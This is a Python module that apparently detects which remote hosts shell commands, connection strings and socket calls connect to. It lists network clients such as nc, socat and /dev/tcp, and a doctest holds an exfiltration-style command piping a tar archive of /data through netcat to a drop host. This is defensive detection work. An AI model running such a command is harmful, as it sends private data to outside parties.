"""Hosts that commands connect to: lines of shells, commands in pieces, calls of other languages.

Read are clients that send what they are given, or whose far end stands beside their data: each has
its own form of a host, as its manual says. Commands that fetch alone (``curl URL``, ``git clone``,
``docker pull``) aren't: scripts fetch from hosts of every kind.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Final

#: A host that is named in full. One label alone is of one's own networks.
NAME: Final = r"(?:[a-z0-9_](?:[a-z0-9_-]*[a-z0-9])?\.)+[a-z][a-z0-9-]*[a-z0-9]"
ADDRESS: Final = r"\d{1,10}(?:\.\d{1,10}){3}|0x[0-9a-f]{8}"
_HOST: Final = rf"{NAME}|{ADDRESS}|\[[0-9a-f:.]+\]"
#: Endings of files that are no domain's (https://data.iana.org/TLD/tlds-alpha-by-domain.txt).
_FILE: Final = re.compile(
    r"\.(?:ya?ml|json|js|mjs|ts|toml|ini|conf|cfg|pem|key|crt|cer|txt|xml|jar|war|sock|socket|log"
    r"|csv|db|sqlite3?|lock|html?|tpl|tmpl|service|exe|dll|bin|tgz|gz|tar|parquet|onnx|npz|pid|sql"
    r"|properties|d|h|c)",
    re.IGNORECASE,
)
_FAR: Final = re.compile(rf"(?:[\w.%+-]+@)?({_HOST})(?::.*)?", re.IGNORECASE)
_REMOTE: Final = re.compile(rf"(?:[\w.%+-]+@)?({_HOST}):(?!//).*", re.IGNORECASE)
_SHARE: Final = re.compile(rf"(?:({_HOST}):/|//(?:[^@/\s]+@)?({_HOST})(?:/|$)).*", re.IGNORECASE)
_IMAGE: Final = re.compile(rf"({_HOST})(?::\d+)?/.*", re.IGNORECASE)
_URL: Final = re.compile(
    rf"[a-z][a-z0-9+.:-]{{1,40}}://(?:[^/?#@\s]*@)?({_HOST})(?:[:/?#].*)?", re.IGNORECASE
)


@dataclass(frozen=True)
class _Client:
    """How a command names its far end."""

    valued: str = ""
    """Letters of the options that have a value, which is no argument."""
    hosts: tuple[str, ...] = ()
    """Options whose value is a far end."""
    first: bool = False
    """Whether the first argument is one."""
    arguments: re.Pattern[str] | None = None
    """The form that other arguments have if they are one."""
    after: tuple[str, ...] = ()
    """Words of which one has to stand before; without, the command sends nothing."""


_SHELL: Final = _Client("bBcDEeFIiJlLmOopPQRSwWX", ("-J",), first=True)
_COPY: Final = _Client("BcDFiJloPRSXefT", ("-J",), arguments=_REMOTE)
_NETCAT: Final = _Client("bcegGiImMoOpPqsTVwxX", ("-x", "--proxy"), first=True)
_TALK: Final = _Client("belnSX", first=True)
_DATABASE: Final = _Client("", ("-h", "--host", "--hostname", "--server"), arguments=_URL)
_PUSH: Final = _Client("", arguments=_IMAGE, after=("push",))
_MOUNT: Final = _Client("tOoL", arguments=_SHARE)
_CLIENTS: Final[dict[str, _Client]] = {
    **dict.fromkeys(("ssh", "autossh", "mosh"), _SHELL),
    **dict.fromkeys(("scp", "rsync", "rclone"), _COPY),
    "sftp": _Client("BbcDFiJloPRSsX", ("-J",), first=True, arguments=_REMOTE),
    **dict.fromkeys(("nc", "ncat", "netcat"), _NETCAT),
    **dict.fromkeys(("telnet", "ftp", "tftp", "lftp", "cqlsh"), _TALK),
    **dict.fromkeys(
        (
            "psql", "pg_restore", "pg_basebackup", "mysql", "mariadb", "redis-cli", "mongo",
            "mongosh", "mongorestore", "clickhouse-client", "mosquitto_pub", "influx", "snmptrap",
            "smbclient", "kubectl",
        ),
        _DATABASE,
    ),
    **dict.fromkeys(("sqlcmd", "bcp", "tsql"), _Client("", ("-S",))),
    **dict.fromkeys(("ldapadd", "ldapmodify", "ldapsearch"), _Client("", ("-H", "-h"))),
    **dict.fromkeys(
        ("kafka-console-producer", "kafka-console-producer.sh", "kafka-mirror-maker.sh"),
        _Client("", ("--bootstrap-server", "--broker-list")),
    ),
    **dict.fromkeys(("kcat", "kafkacat"), _Client("", ("-b",))),
    "openssl": _Client("", ("-connect", "-proxy")),
    "curl": _Client("", (
        "-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5", "--socks5-hostname",
        "--doh-url",
    )),
    **dict.fromkeys(("aws", "s5cmd"), _Client("", ("--endpoint-url",))),
    "git": _Client("", arguments=_URL, after=("push", "remote", "set-url")),
    **dict.fromkeys(("docker", "podman", "nerdctl", "buildah", "crane", "oras"), _PUSH),
    **dict.fromkeys(("mount", "mount.nfs", "mount.nfs4", "mount.cifs"), _MOUNT),
    "logger": _Client("", ("-n", "--server")),
    **dict.fromkeys(("dig", "drill", "kdig"), _Client("", arguments=re.compile(
        rf"@({_HOST})", re.IGNORECASE
    ))),
}  # fmt: skip

#: What is seen without a command's arguments being read.
_SEEN: Final = re.compile(
    # A shell's own sockets (https://www.gnu.org/software/bash/manual/html_node/Redirections.html).
    rf"/dev/(?:tcp|udp)/({_HOST})/\d"
    # Addresses of socat (http://www.dest-unreach.org/socat/doc/socat.html).
    rf"|\b(?:tcp|udp|openssl|ssl|sctp|dccp|dtls|proxy|socks\w*)[46]?"
    rf"(?:-connect|-sendto|-datagram|-client)?:({_HOST}):\w"
    # What a name stands for, and what is called instead (https://curl.se/docs/manpage.html).
    rf"|--resolve[\s=]+[+-]?[^\s:]+:\d+:({_HOST})|--connect-to[\s=]+[^\s:]*:\d*:({_HOST}):"
    # A proxy for all that follows.
    rf"|\b(?:https?|ftp|all|socks)_proxy=(?:[a-z0-9+]+://)?(?:[^@/\s]*@)?({_HOST})"
    # Where rsyslog sends records (https://www.rsyslog.com/doc/configuration/actions.html).
    rf"|\.[\w*=!,]+[ \t]+@@?(?:\([\w,]*\))?({_HOST})"
    # Sockets and clients of other languages.
    rf"|\b(?:create_connection|connect(?:_ex)?|sendto|fsockopen|InetSocketAddress|Socket(?:\.new)?"
    rf"|TCPSocket\.(?:new|open)|createConnection|HTTPS?Connection|SMTP(?:_SSL)?|FTP(?:_TLS)?"
    rf"|Dial(?:Timeout)?)\s?\((?:\s{{0,8}}[\w.\"']{{0,64}}\s{{0,8}},)?[\s(]{{0,8}}[\"']({_HOST})[\"':]",
    re.IGNORECASE,
)
_WORD: Final = re.compile(
    r"\b(?:" + "|".join(sorted(map(re.escape, _CLIENTS), key=len, reverse=True)) + r")(?![\w.])"
)
_COMMANDS: Final = re.compile(r"[\n;|&()`]")
_BETWEEN: Final = re.compile(r"[\s\"',\[\]{}]+")
_COMMENT: Final = re.compile(r"(?m)(?:^|(?<=\s))#(?!!).*$")
#: Commands that only show what follows.
_SHOWING: Final = re.compile(
    r"\s*(?:(?:RUN|sudo)\s+)*(?:echo|printf|apt(?:-get)?|yum|dnf|apk|pip3?)\s"
)
#: Keys whose value is a far end, in connection strings and in options of programs.
_KEYED: Final = re.compile(
    r"(?<![\w.])(?P<key>-{0,2}[\w.-]*?(?:host(?:name|addr)?|server(?:name|s)?|endpoint|proxy"
    r"|brokers?(?:\.list)?|data\ source|network\ address|address))(?:\s*=\s*|\s+)"
    r"(?:(?:tcp|np|lpc|ssl):|[a-z][a-z0-9+.]*://)?(?P<user>[\w.%+:-]{1,64}@)?"
    rf"(?P<host>{_HOST})(?![\w(\[@+-]|\.\w)",
    re.IGNORECASE,
)
#: Names of a program itself, or of what others call it, and what no proxy is used for.
_OWN: Final = re.compile(
    r"listen|bind|virtual|vhost|external|public|advertise|self|allow|local|trusted"
    r"|(?<![a-z])no[_-]?proxy",
    re.IGNORECASE,
)
#: The descriptors of Oracle: ``jdbc:oracle:thin:@host:1521:service``
#: (https://docs.oracle.com/en/database/oracle/oracle-database/23/jjdbc/data-sources-and-URLs.html).
_ORACLE: Final = re.compile(rf":@(?://)?({_HOST})[:/]", re.IGNORECASE)


def connected(value: str) -> Iterator[str]:
    """Hosts that commands in a text connect to.

    >>> list(connected("tar c /data | nc -w 3 drop.example.com 443"))
    ['drop.example.com']
    """
    plain = _COMMENT.sub("", value.replace("\\\n", " "))
    for found in _SEEN.finditer(plain):
        yield next(filter(None, found.groups()))
    if not _WORD.search(plain):
        return
    for command in _COMMANDS.split(plain):
        if not _WORD.search(command) or _SHOWING.match(command):
            continue
        words = [each for each in _BETWEEN.split(command) if each]
        # To the next command of the name: a text of nothing else would take its square of time.
        ends: dict[str, int] = {}
        calls: list[tuple[_Client, int, int]] = []
        for index in range(len(words) - 1, -1, -1):
            name = words[index].rpartition("/")[2]
            if name in _CLIENTS:
                calls.append((_CLIENTS[name], index + 1, ends.get(name, len(words))))
                ends[name] = index
        for client, begin, end in reversed(calls):
            yield from _far_ends(client, words[begin:end])


def _far_ends(client: _Client, words: Sequence[str]) -> Iterator[str]:
    if client.after and not set(client.after) & set(words):
        return
    first, skipped = client.first, False
    for index, word in enumerate(words):
        following = words[index + 1] if index + 1 < len(words) else ""
        option, _, value = word.partition("=")
        if skipped:
            skipped = False
        elif option in client.hosts:
            yield from _host(_FAR, value or following) or _host(_URL, value or following)
            # A list goes on: its commas are gone.
            for each in words[index + 2 :]:
                if ":" not in each or not (more := _host(_FAR, each)):
                    break
                yield from more
            skipped = not value
        elif word.startswith("-"):
            glued = next((each for each in client.hosts if word.startswith(each)), "")
            if len(glued) == 2 and len(word) > 2 and word[2] != "-":
                yield from _host(_FAR, word[2:])
            skipped = len(word) == 2 and word[1] in client.valued
        elif first:
            first = False
            yield from _host(_FAR, word) or _host(_URL, word)
        elif client.arguments is not None:
            yield from _host(client.arguments, word)


def _host(form: re.Pattern[str], word: str) -> tuple[str, ...]:
    found = form.fullmatch(word)
    host = next(filter(None, found.groups()), "") if found else ""
    return (host,) if host and not _is_file(host) else ()


def _is_file(host: str) -> bool:
    return _FILE.fullmatch(host[host.rfind(".") :]) is not None


def keyed(value: str) -> Iterator[str]:
    """Hosts of connection strings, and of options that are called after a far end.

    None in a text of more lines: programs assign what looks the same.

    >>> list(keyed("Server=tcp:sql.example.com,1433;Database=app"))
    ['sql.example.com']
    """
    if "\n" in value:
        return
    for found in _KEYED.finditer(value):
        # A word after another is a value of an option alone.
        given = "=" in found[0] or found["key"].startswith("--")
        # Somebody at a host is who gets mail, where it isn't who signs in.
        if found["user"] and found["key"].lower().endswith("address"):
            continue
        if given and not _OWN.search(found["key"]) and not _is_file(found["host"]):
            yield found["host"]
    if ":@" in value:
        for found in _ORACLE.finditer(value):
            yield found[1]
